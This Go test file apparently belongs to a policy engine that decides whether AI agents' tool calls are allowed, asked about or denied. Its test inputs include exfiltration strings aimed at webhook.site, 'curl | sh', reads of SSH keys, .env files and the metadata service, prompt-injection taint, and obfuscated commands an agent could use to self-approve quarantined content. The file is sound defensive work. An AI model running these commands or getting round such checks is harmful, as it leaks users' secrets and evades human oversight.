package policy

import (
	"encoding/base64"
	"encoding/hex"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"

	"github.com/flowd-dev/flowd/internal/unwrap"
)

var rules = Rules{
	DefaultAction: Allow,
	ToolOverrides: map[string]Action{
		"delete_file":        Deny,
		"fs/delete_file":     Warn,
		"WebSearch":          Allow,
		"everything/get-env": Deny,
	},
	InternalToExternal:    Ask,
	SensitiveDataExternal: Deny,
	AskFallback:           Warn,
	SuspiciousEndpoints:   []string{"webhook.site", "requestbin.com"},
}

func TestDecide(t *testing.T) {
	tests := []struct {
		name string
		call Call
		want Action
		rule string
	}{
		{"server/tool override beats bare", Call{Server: "fs", Tool: "delete_file"}, Warn, "tool_overrides.fs/delete_file"},
		{"bare override", Call{Server: "other", Tool: "delete_file"}, Deny, "tool_overrides.delete_file"},
		{"default", Call{Server: "everything", Tool: "echo"}, Allow, "default_action"},
		{"endpoint before override", Call{Tool: "WebSearch", Endpoint: "webhook.site"}, Deny, "suspicious_endpoints"},
		{"override beats flow", Call{Tool: "WebSearch", External: true, FlowType: "internal→external", Sources: []string{"fs"}}, Allow, "tool_overrides.WebSearch"},
		{"secret out", Call{Server: "slack-notifications", Tool: "post", External: true, Secrets: []string{"aws_secret_key"}, FlowType: "internal→external", Sources: []string{"postgres-db"}}, Deny, "sensitive_data_external"},
		{"secret stays in", Call{Server: "memory", Tool: "save", External: false, Secrets: []string{"aws_secret_key"}, FlowType: "internal→internal", Sources: []string{"fs"}}, Allow, "default_action"},
		{"internal out, proxy mode", Call{Server: "slack", Tool: "post", External: true, FlowType: "internal→external", Sources: []string{"github"}}, Warn, "internal_to_external"},
		{"internal out, hook mode", Call{Server: "slack", Tool: "post", External: true, FlowType: "internal→external", Sources: []string{"github"}, CanAsk: true}, Ask, "internal_to_external"},
		{"external to external", Call{Server: "slack", Tool: "post", External: true, FlowType: "external→external", Sources: []string{"web"}}, Allow, "default_action"},
		{"unread arguments out", Call{Server: "slack", Tool: "post", External: true, ArgsBytes: 2000, InspectedBytes: 1024}, Deny, "shim.max_inspect_bytes"},
		{"unread arguments out, even if allowed", Call{Tool: "WebSearch", External: true, ArgsBytes: 2000, InspectedBytes: 1024}, Deny, "shim.max_inspect_bytes"},
		{"unread arguments kept in", Call{Server: "db", Tool: "insert", ArgsBytes: 2000, InspectedBytes: 1024}, Allow, "default_action"},
		{"unchecked arguments out", Call{Server: "slack", Tool: "post", External: true, Unfinished: true}, Deny, "flow.check_budget"},
		{"unchecked arguments out, even if allowed", Call{Tool: "WebSearch", External: true, Unfinished: true}, Deny, "flow.check_budget"},
		{"unchecked arguments kept in", Call{Server: "db", Tool: "insert", Unfinished: true}, Allow, "default_action"},
		{"an unchecked handshake still starts the server", Call{Server: "s1", Tool: "initialize", Message: true, Lifecycle: true, External: true, Unfinished: true}, Allow, "default_action"},
		{"an unchecked message of another kind does not leave", Call{Server: "s1", Tool: "prompts/get", Message: true, External: true, Unfinished: true}, Deny, "flow.check_budget"},
		{"a wallet address out asks", Call{Server: "web", Tool: "fetch", External: true, Secrets: []string{"crypto_address"}, CanAsk: true}, Ask, "sensitive_data_external"},
		{"a wallet address and a key out is denied", Call{Server: "web", Tool: "fetch", External: true, Secrets: []string{"crypto_address", "seed_phrase"}, CanAsk: true}, Deny, "sensitive_data_external"},
		{"data in a URL's path out asks", Call{Server: "web", Tool: "fetch", External: true, Secrets: []string{"encoded_url"}, CanAsk: true}, Ask, "sensitive_data_external"},
		{"data in a URL's path and a key out is denied", Call{Server: "web", Tool: "fetch", External: true, Secrets: []string{"encoded_url", "jwt"}, CanAsk: true}, Deny, "sensitive_data_external"},
		{"a lost secret's possible form out is denied", Call{Server: "web", Tool: "fetch", External: true, FlowType: "internal→external", CanAsk: true, LostSecret: "/p/.env", Payload: "24 characters of random-looking text"}, Deny, LostSecretRule},
		{"a lost session's other data out asks", Call{Server: "web", Tool: "fetch", External: true, FlowType: "internal→external", CanAsk: true, LostSecret: "/p/.env"}, Ask, "internal_to_external"},
		{"a lost secret's possible form kept in", Call{Server: "db", Tool: "insert", LostSecret: "/p/.env", Payload: "24 characters of random-looking text"}, Allow, "default_action"},
		{"a secret in a handshake still counts", Call{Server: "s1", Tool: "initialize", Message: true, Lifecycle: true, External: true, Unfinished: true, Secrets: []string{"github_token"}}, Deny, "sensitive_data_external"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := rules.Decide(tt.call)
			assert.Equal(t, tt.want, d.Action)
			assert.Equal(t, tt.rule, d.Rule)
			if d.Action != Allow {
				assert.NotEmpty(t, d.Reason)
			}
		})
	}
	assert.Equal(t, Allow, Rules{}.Decide(Call{Server: "a", Tool: "b"}).Action, "zero rules allow")
	deny := rules
	deny.AskFallback = Deny
	assert.Equal(t, Deny, deny.Decide(Call{Server: "slack", External: true, FlowType: "internal→external"}).Action)

	// An agent's own fallback wins over the rules' either way, and the
	// reason names the setting that decided.
	out := Call{Server: "slack", External: true, FlowType: "internal→external", AskFallback: Deny, AskFallbackKey: "policy.codex_ask_fallback"}
	d := rules.Decide(out)
	assert.Equal(t, Deny, d.Action, "rules fall back to warn, the agent's setting to deny")
	assert.Contains(t, d.Reason, "ask → deny: the agent cannot ask its user; policy.codex_ask_fallback decides")
	out.AskFallback = Warn
	assert.Equal(t, Warn, deny.Decide(out).Action)
	out.CanAsk = true
	assert.Equal(t, Ask, deny.Decide(out).Action, "an agent that can ask is asked")
}

func TestDecideTainted(t *testing.T) {
	out := Call{Server: "slack", Tool: "post", External: true, FlowType: "internal→external", Sources: []string{"github"},
		Tainted: true, TaintReason: "web/fetch: instruction-override"}
	tests := []struct {
		name   string
		i2e    Action
		taint  string
		canAsk bool
		call   Call
		want   Action
		rule   string
	}{
		{"raise: ask becomes deny", Ask, TaintRaise, true, out, Deny, "internal_to_external+taint"},
		{"raise: ask becomes deny in proxy mode too", Ask, TaintRaise, false, out, Deny, "internal_to_external+taint"},
		{"raise: warn becomes ask", Warn, TaintRaise, true, out, Ask, "internal_to_external+taint"},
		{"raise: allow becomes warn", Allow, TaintRaise, true, out, Warn, "internal_to_external+taint"},
		{"deny: warn becomes deny", Warn, TaintDeny, true, out, Deny, "internal_to_external+taint"},
		{"deny stays deny", Deny, TaintRaise, true, out, Deny, "internal_to_external"},
		{"no taint action configured", Ask, "", true, out, Ask, "internal_to_external"},
		{"untainted session", Ask, TaintRaise, true, func() Call { c := out; c.Tainted = false; return c }(), Ask, "internal_to_external"},
		{"tainted, but data stays inside", Ask, TaintRaise, true,
			Call{Server: "memory", Tool: "save", FlowType: "internal→internal", Sources: []string{"github"}, Tainted: true}, Allow, "default_action"},
		{"tainted, external data to external", Ask, TaintRaise, true,
			Call{Server: "slack", Tool: "post", External: true, FlowType: "external→external", Sources: []string{"web"}, Tainted: true}, Allow, "default_action"},
		{"tainted secret: ask becomes deny", Ask, TaintRaise, true,
			Call{Server: "slack", Tool: "post", External: true, Secrets: []string{"aws_secret_key"}, Tainted: true}, Deny, "sensitive_data_external+taint"},
		{"override wins over taint", Ask, TaintDeny, true, func() Call { c := out; c.Tool = "WebSearch"; return c }(), Allow, "tool_overrides.WebSearch"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := rules
			r.InternalToExternal, r.SensitiveDataExternal, r.TaintAction = tt.i2e, tt.i2e, tt.taint
			c := tt.call
			c.CanAsk = tt.canAsk
			d := r.Decide(c)
			assert.Equal(t, tt.want, d.Action, d.Reason)
			assert.Equal(t, tt.rule, d.Rule)
		})
	}
	d := rules.Decide(func() Call { c := out; c.CanAsk = true; return c }())
	assert.Equal(t, Ask, d.Action, "the package's rules have no taint action")
	r := rules
	r.TaintAction = TaintRaise
	d = r.Decide(func() Call { c := out; c.CanAsk = true; return c }())
	assert.Equal(t, `Data from internal source (github) flowing to external destination (slack); ask → deny because this session received content flagged as prompt injection (web/fetch: instruction-override) (injection.taint_action = "raise")`, d.Reason)
}

func TestDecideRequireJustification(t *testing.T) {
	r := rules
	r.RequireJustification = true
	out := Call{Server: "slack", Tool: "post", External: true, FlowType: "internal→external", Sources: []string{"github"}, Justifiable: true}
	builtin := out
	builtin.Justifiable = false
	withReason := out
	withReason.Justification = "  the user asked me to post the release notes  "
	asked := withReason
	asked.CanAsk = true
	long := out
	long.Justification = strings.Repeat("é", MaxJustification)
	secret := Call{Server: "slack", Tool: "post", External: true, Secrets: []string{"github_token"}, FlowType: "internal→external", Sources: []string{"github"}, Justification: "needed", Justifiable: true}
	tests := []struct {
		name   string
		rules  Rules
		call   Call
		want   Action
		rule   string
		reason string
	}{
		{"off", rules, out, Warn, "internal_to_external", ""},
		{"no reason given", r, out, Deny, "internal_to_external+require_justification", `call the tool again with the same arguments plus "flowd_justification"`},
		{"an agent's own tool cannot carry one", r, builtin, Warn, "internal_to_external", ""},
		{"reason given, proxy mode", r, withReason, Warn, "internal_to_external", `the agent's stated reason: "the user asked me to post the release notes"`},
		{"reason given, user asked", r, asked, Ask, "internal_to_external", "stated reason"},
		{"long reason cut on a rune", r, long, Warn, "internal_to_external", "é…"},
		{"a reason never lifts a deny", r, secret, Deny, "sensitive_data_external", "Sensitive data"},
		{"not a flow rule", r, Call{Server: "fs", Tool: "delete_file"}, Warn, "tool_overrides.fs/delete_file", ""},
		{"nothing leaving", r, Call{Server: "memory", Tool: "save", FlowType: "internal→internal", Sources: []string{"fs"}}, Allow, "default_action", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := tt.rules.Decide(tt.call)
			assert.Equal(t, tt.want, d.Action)
			assert.Equal(t, tt.rule, d.Rule)
			assert.Contains(t, d.Reason, tt.reason)
			assert.True(t, utf8.ValidString(d.Reason), "reason is valid UTF-8")
		})
	}
}

// A standing decision must not change with anything the arguments can
// change, under any rules: otherwise a shim would forward calls policy
// denies.
func TestStandingHoldsForAnyArguments(t *testing.T) {
	var ruleSets []Rules
	for _, def := range []Action{"", Allow, Warn, Ask, Deny} {
		for _, strict := range []bool{false, true} {
			r := rules
			r.DefaultAction = def
			if strict {
				r.RequireJustification, r.TaintAction, r.AskFallback = true, TaintDeny, Deny
			}
			ruleSets = append(ruleSets, r)
		}
	}
	// What the arguments, or the session they come from, can vary.
	variants := []func(*Call){
		func(c *Call) {},
		func(c *Call) { c.Secrets = []string{"aws_secret_key"} },
		func(c *Call) { c.FlowType, c.Sources = "internal→internal", []string{"github"} },
		func(c *Call) { c.FlowType, c.Sources = "external→internal", []string{"fetch"} },
		func(c *Call) { c.Tainted, c.TaintReason = true, "flagged page" },
		func(c *Call) { c.ArgsBytes, c.InspectedBytes = 1<<30, 1<<20 },
		func(c *Call) { c.Unfinished = true },
		func(c *Call) { c.Justification = "because" },
		func(c *Call) { c.CanAsk = !c.CanAsk },
		func(c *Call) { c.Justifiable = !c.Justifiable },
	}
	standing := 0
	for _, r := range ruleSets {
		for _, base := range []Call{
			{Server: "everything", Tool: "echo", Justifiable: true},
			{Server: "fs", Tool: "delete_file", Justifiable: true},
			{Server: "other", Tool: "WebSearch"},
			{Server: "slack", Tool: "send", External: true, Justifiable: true},
		} {
			if !Standing(base, r.Decide(base)) {
				continue
			}
			standing++
			for i, vary := range variants {
				c := base
				vary(&c)
				assert.Equal(t, r.Decide(base), r.Decide(c), "rules %+v, call %+v, variant %d", r, base, i)
			}
			c := base
			c.Endpoint = "webhook.site"
			assert.Equal(t, Deny, r.Decide(c).Action, "a suspicious endpoint is the one thing the shim must check itself")
		}
	}
	assert.Greater(t, standing, 4, "the test must meet standing decisions to check them")
	assert.False(t, Standing(Call{External: true}, Decision{Action: Allow}), "data leaving is judged call by call")
	assert.False(t, Standing(Call{}, Decision{Action: Warn}), "a warning is logged call by call")
}

func TestSensitiveReason(t *testing.T) {
	d := rules.Decide(Call{Server: "slack-notifications", Tool: "post", External: true,
		Secrets: []string{"aws_secret_key"}, FlowType: "internal→external", Sources: []string{"postgres-db"}})
	assert.Equal(t, "Sensitive data (aws_secret_key) flowing from internal source (postgres-db) to external destination (slack-notifications)", d.Reason)
}

func TestValid(t *testing.T) {
	for _, s := range []string{"allow", "warn", "ask", "deny"} {
		assert.True(t, Valid(s), s)
	}
	assert.False(t, Valid("block"))
	assert.False(t, Valid(""))
}

func TestSuspiciousHost(t *testing.T) {
	hosts := []string{"webhook.site", "requestbin.com", "pipedream.net"}
	url1 := "https://webhook.site/0e2b-4c1f?d=1"
	tests := []struct {
		text string
		want string
	}{
		{`{"url":"` + url1 + `"}`, "webhook.site"},
		{`send to HTTPS://ABC.Pipedream.NET/x`, "pipedream.net"},
		{`{"url":"` + url.QueryEscape(url1) + `"}`, "webhook.site"},
		{`{"u":"https%3A%2F%2Frequestbin.com%2Fr%2F1"}`, "requestbin.com"},
		{`{"blob":"` + base64.StdEncoding.EncodeToString([]byte(url1)) + `"}`, "webhook.site"},
		{`{"blob":"` + base64.RawURLEncoding.EncodeToString([]byte("curl -d @- "+url1)) + `"}`, "webhook.site"},
		{`{"blob":"` + hex.EncodeToString([]byte(url1)) + `"}`, "webhook.site"},
		{`{"url":"https://notwebhook.site/x"}`, ""},
		{`{"url":"https://webhook.site.example.org/x"}`, ""},
		{`{"text":"read the docs about webhooks on our site"}`, ""},
		{`{"bad":"%zz%"}`, ""},
		{`{"text":"post it to webhook.site."}`, "webhook.site"},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, SuspiciousHost([]byte(tt.text), unwrap.Views([]byte(tt.text)), hosts), tt.text)
	}
	assert.Empty(t, SuspiciousHost([]byte("https://webhook.site"), nil, nil))
}

// Hosts made once find what SuspiciousHost finds, in the text and in its
// views alone, and a search lower-cases no host again: a shim searches
// every granted call for its grant's hosts (SuspiciousHost copied each
// host, lower-cased, on every call). At most the pooled buffer is made,
// when the race detector has dropped it.
func TestHostsPreparedOnce(t *testing.T) {
	h := NewHosts([]string{" WebHook.Site ", "", "pipedream.net"})
	assert.False(t, h.Empty())
	assert.True(t, NewHosts([]string{" ", ""}).Empty())
	text := []byte(`{"url":"https://x.webhook.site/a"}`)
	assert.Equal(t, "webhook.site", h.In(text, nil))
	assert.Equal(t, "pipedream.net", h.In(nil, [][]byte{[]byte("see HTTPS://Pipedream.NET/x")}), "a view searched without the text")
	assert.Empty(t, h.In([]byte("nothing here"), [][]byte{[]byte("nor here")}))
	assert.LessOrEqual(t, testing.AllocsPerRun(100, func() { h.In(text, nil) }), 1.0)
}

// A long text is searched a chunk at a time; a name across a chunk's
// edge is judged with the characters around it, as in a short text.
func TestSuspiciousHostAcrossChunks(t *testing.T) {
	hosts := []string{"webhook.site"}
	for at := hostChunk - 24; at <= hostChunk+8; at++ {
		for name, want := range map[string]string{
			" https://WEBHOOK.site/x ": "webhook.site", " a.webhook.site. ": "webhook.site",
			" xwebhook.site ": "", " webhook.sitex ": "", " webhook.site.example.org ": "",
		} {
			text := []byte(strings.Repeat("é", at/2) + strings.Repeat(" ", at%2) + name + strings.Repeat(" ", 100))
			assert.Equal(t, want, SuspiciousHost(text, nil, hosts), "%q at %d", name, at)
		}
	}
}

func TestHumanOnlyCommand(t *testing.T) {
	for _, c := range []string{
		"flowd quarantine release 7f3a9c2e",
		"/usr/local/bin/flowd quarantine release 7f3a9c2e",
		"cd /tmp && flowd  quarantine   release x",
		`flowd "quarantine" rel\ease x`,
		"echo 7f3a9c2e | flowd quarantine release 7f3a9c2e",
		"flowd pins approve github",
		"FLOWD_SOCKET=/x flowd pins approve github create_issue",
		"$(which flowd) pins approve github",
		"curl --unix-socket ~/.flowd.sock -X POST http://x/api/v1/quarantine/7f3a9c2e/release",
		"curl --unix-socket s -d '{}' http://x/api/v1/pins/approve",
		"curl --unix-socket s -d '{}' http://x/api/v1/quarantine/q1/rel%65ase",
		"curl --unix-socket s -d '{}' http://x//api/v1//pins/approve",
		"flowd passphrase set",
		"curl --unix-socket s -d '{\"new\":\"mine mine mine\"}' http://x/api/v1/passphrase",
		"flowd quarantine show 7f3a9c2e",
		"flowd quarantine show q1 --json",
		"curl --unix-socket s 'http://x/api/v1/quarantine/q1?confirm_view=true'",
		"curl --unix-socket s 'http://x/api/v1/quarantine/q1?x=1&confirm%5Fview=true'",
		"curl --unix-socket s -d '{\"passphrase\":\"guess\"}' http://x/api/v1/quarantine/q1/view",
		"curl --unix-socket s -d '{}' http://x//api/v1/quarantine/q1/vi%65w",
	} {
		assert.NotEmpty(t, HumanOnlyCommand(c), c)
	}
	for _, c := range []string{
		"flowd quarantine list",
		"curl --unix-socket s http://x/api/v1/quarantine/q1",
		"flowd pins diff github",
		"flowd pins list",
		"grep -r 'quarantine release' docs/",
		"myflowd quarantine release x",
		"ls",
	} {
		assert.Empty(t, HumanOnlyCommand(c), c)
	}
}

// A destination flowd cannot classify is judged as one that can send data
// out: secrets to it are denied, and internal data has its own rule.
func TestDecideUnclassifiedDestination(t *testing.T) {
	r := rules
	r.InternalToUnknown = Warn
	secret := Call{Server: "acme-tools", Tool: "run", External: true, Unclassified: true,
		Secrets: []string{"github_pat"}, FlowType: "internal→external", Sources: []string{"fs/read_file"}}
	d := r.Decide(secret)
	assert.Equal(t, Deny, d.Action, d.Reason)
	assert.Equal(t, "sensitive_data_external", d.Rule)
	assert.Contains(t, d.Reason, "cannot classify (acme-tools)")

	data := Call{Server: "acme-tools", Tool: "run", External: true, Unclassified: true,
		FlowType: "internal→external", Sources: []string{"fs/read_file"}, CanAsk: true}
	d = r.Decide(data)
	assert.Equal(t, Warn, d.Action, d.Reason)
	assert.Equal(t, "internal_to_unknown", d.Rule)
	assert.Contains(t, d.Reason, "classify.servers")

	d = rules.Decide(data)
	assert.Equal(t, Ask, d.Action, "without internal_to_unknown, internal_to_external applies")
	assert.Equal(t, "internal_to_external", d.Rule)
	assert.Contains(t, d.Reason, "cannot classify")

	d = r.Decide(Call{Server: "slack", Tool: "post", External: true, FlowType: "internal→external", CanAsk: true})
	assert.Equal(t, Ask, d.Action, "internal_to_unknown leaves classified destinations alone")
}

// What a call runs, fetches and follows a credential read is decided in
// its place among the other rules.
func TestDecideArguments(t *testing.T) {
	r := rules
	r.PrivateAddresses, r.RiskyCommands, r.ReadThenSend = Deny, Ask, Ask
	tests := []struct {
		name string
		call Call
		want Action
		rule string
	}{
		{"a severe command is denied", Call{Tool: "Bash", Command: "disguised", CommandRule: "disguised_command", CommandSevere: true}, Deny, "command.disguised_command"},
		{"an override still wins", Call{Tool: "WebSearch", Command: "x", CommandRule: "reverse_shell", CommandSevere: true}, Allow, "tool_overrides.WebSearch"},
		{"a risky command asks", Call{Tool: "Bash", Command: "curl | sh", CommandRule: "remote_code", CanAsk: true}, Ask, "risky_commands.remote_code"},
		{"a risky command falls back", Call{Tool: "exec", Command: "curl | sh", CommandRule: "remote_code"}, Warn, "risky_commands.remote_code"},
		{"a secret out beats a risky command", Call{Tool: "exec", External: true, Secrets: []string{"jwt"}, Command: "curl -T x", CommandRule: "sends_file"}, Deny, "sensitive_data_external"},
		{"a fetch of an internal address", Call{Tool: "fetch", External: true, Fetches: true, InternalAddress: "10.0.0.1 (…)"}, Deny, "private_addresses"},
		{"an internal address that is not fetched", Call{Tool: "send", External: true, InternalAddress: "10.0.0.1 (…)"}, Allow, "default_action"},
		{"the metadata service whatever the tool", Call{Tool: "lookup", InternalAddress: "169.254.169.254 (…)", Metadata: true}, Deny, "private_addresses"},
		{"read then send asks", Call{Tool: "fetch", External: true, SensitiveRead: ".env (an environment file)", CanAsk: true}, Ask, "read_then_send"},
		{"a flow rule decides first", Call{Tool: "post", External: true, FlowType: "internal→external", Sources: []string{"fs"}, SensitiveRead: ".env", CanAsk: true}, Ask, "internal_to_external"},
		{"a result holding a secret only warns", Call{Tool: "send", External: true, SensitiveRead: "a result", SecretResultOnly: true, CanAsk: true}, Warn, "read_then_send"},
		{"with a random-looking payload it asks", Call{Tool: "send", External: true, SensitiveRead: "a result", SecretResultOnly: true, Payload: "40 characters", CanAsk: true}, Ask, "read_then_send"},
		{"naming the secret's file asks", Call{Tool: "send", External: true, SensitiveRead: "a result", SecretResultOnly: true, SecretFile: "notes.txt", CanAsk: true}, Ask, "read_then_send"},
		{"a command sending another file asks", Call{Tool: "Bash", External: true, SensitiveRead: "a result", SecretResultOnly: true, SendsFile: true, CanAsk: true}, Ask, "read_then_send"},
		{"sending the secret's file is denied", Call{Tool: "Bash", External: true, SensitiveRead: "a result", SecretResultOnly: true, SecretFile: "notes.txt", SecretFileSent: true,
			Command: "gh gist create notes.txt", CommandRule: "sends_file", CanAsk: true}, Deny, "read_then_send.secret_file"},
		{"reading a private key asks", Call{Tool: "read_file", KeyRead: "~/.ssh/id_ed25519", CanAsk: true}, Ask, "read_then_send.key_material"},
		{"injection planted in an agent's instructions asks", Call{Tool: "write_file", Injection: "rules: x", InjectionForAgents: true, CanAsk: true}, Ask, "injection_in_arguments"},
		{"injection written elsewhere warns", Call{Tool: "write_file", Injection: "rules: x", CanAsk: true}, Warn, "injection_in_arguments"},
		{"injection written where others read it asks", Call{Tool: "write_file", Injection: "rules: x", Shared: "/tmp/x (…)", CanAsk: true}, Ask, "injection_in_arguments"},
		{"a secret written where others read it asks", Call{Tool: "write_file", Secrets: []string{"private_key"}, Shared: "/tmp/x (…)", CanAsk: true}, Ask, "sensitive_data_shared"},
		{"… or falls back", Call{Tool: "write_file", Secrets: []string{"private_key"}, Shared: "/tmp/x (…)"}, Warn, "sensitive_data_shared"},
		{"a write there without a secret passes", Call{Tool: "write_file", Shared: "/tmp/x (…)", CanAsk: true}, Allow, "default_action"},
		{"an unchecked write there asks", Call{Tool: "write_file", Shared: "/tmp/x (…)", Unfinished: true, CanAsk: true}, Ask, "flow.check_budget"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := r.Decide(tt.call)
			assert.Equal(t, tt.want, d.Action, d.Reason)
			assert.Equal(t, tt.rule, d.Rule)
		})
	}
	off := r
	off.PrivateAddresses, off.RiskyCommands, off.ReadThenSend = Allow, Allow, Allow
	for _, c := range []Call{
		{Tool: "fetch", External: true, Fetches: true, InternalAddress: "localhost"},
		{Tool: "Bash", Command: "curl | sh", CommandRule: "remote_code"},
		{Tool: "fetch", External: true, SensitiveRead: ".env"},
		{Tool: "read_file", KeyRead: "~/.ssh/id_rsa"},
	} {
		assert.Equal(t, Allow, off.Decide(c).Action, "%+v", c)
	}
	assert.False(t, Standing(Call{Executes: true}, Decision{Action: Allow}), "a call that runs something is judged call by call")
}
